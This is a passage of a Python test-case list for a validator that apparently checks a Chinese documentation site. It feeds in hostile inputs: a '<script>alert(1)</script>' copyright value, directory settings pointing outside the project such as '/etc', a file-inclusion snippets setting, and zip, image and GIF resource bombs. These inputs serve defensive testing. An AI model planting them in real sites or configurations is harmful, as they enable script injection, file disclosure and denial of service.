    Case("mobile-split-by-hidden-element", ART, "\n---\n", "\n---\n\n值班电话 138<span hidden>99</span>12345678。\n",
         "正文", "疑似手机号码", at="值班电话"),
    Case("settings-docs-dir-outside", MK, "docs_dir: docs", "docs_dir: ..", "docs_dir", "必须是本项目中的一个文件夹",
         at="docs_dir:"),
    Case("settings-docs-dir-is-the-project", MK, "docs_dir: docs", "docs_dir: .", "docs_dir",
         "必须是本项目中的一个文件夹", at="docs_dir:"),
    Case("settings-custom-dir-outside", MK, "  custom_dir: overrides", "  custom_dir: /etc", "theme.custom_dir",
         "必须是本项目中的一个文件夹", at="custom_dir:"),
    Case("settings-snippets-extension", MK, "  - fenced_code",
         '  - fenced_code\n  - pymdownx.snippets:\n      base_path: ["."]', "markdown_extensions 第7项",
         "能把项目中或电脑上其他文件的内容", at="pymdownx.snippets"),
    Case("settings-copyright-markup", MK, "docs_dir: docs", "docs_dir: docs\ncopyright: '<script>alert(1)</script>'",
         "copyright", "只能是文字", at="copyright:"),
    Case("gif-animation-bomb", "docs/assets/img/dongtu.gif", Make(lambda path: _animation(path)), "", "（整个文件）",
         "帧", whole=True),
    # 8. resource bombs
    Case("picture-decompression-bomb", "docs/assets/img/ditu.png", Make(_huge_png), "", "（整个文件）", "图片尺寸过大",
         whole=True),
    Case("picture-too-many-pixels", "docs/assets/img/quanjing.jpg", Make(_picture("JPEG", size=(12000, 7000))), "",
         "（整个文件）", "图片尺寸过大", whole=True),
    Case("docx-zip-bomb", "docs/assets/zhadan.docx", Make(_docx_edit("bomb", _bomb)), "", "（整个文件）", "压缩炸弹",
         whole=True),
    Case("docx-too-many-parts", "docs/assets/duo.docx", Make(_docx_edit("many-parts", _many_parts)), "", "（整个文件）",
         "个部分", whole=True),
]


def _hidden_sheet(path):
    import openpyxl
    book = openpyxl.Workbook()
    book.active["A1"] = "名单"
    sheet = book.create_sheet("隐藏")
    sheet["A1"] = MOBILE
    sheet.sheet_state = "hidden"
    book.save(str(path))


def _animation(path):
    """A GIF of 600 small frames (more than any picture on a government site needs)."""
    from PIL import Image
    frames = [Image.new("RGB", (8, 8), (n % 256, n // 256 * 60, 0)) for n in range(600)]
    frames[0].save(path, "GIF", save_all=True, append_images=frames[1:], duration=20)
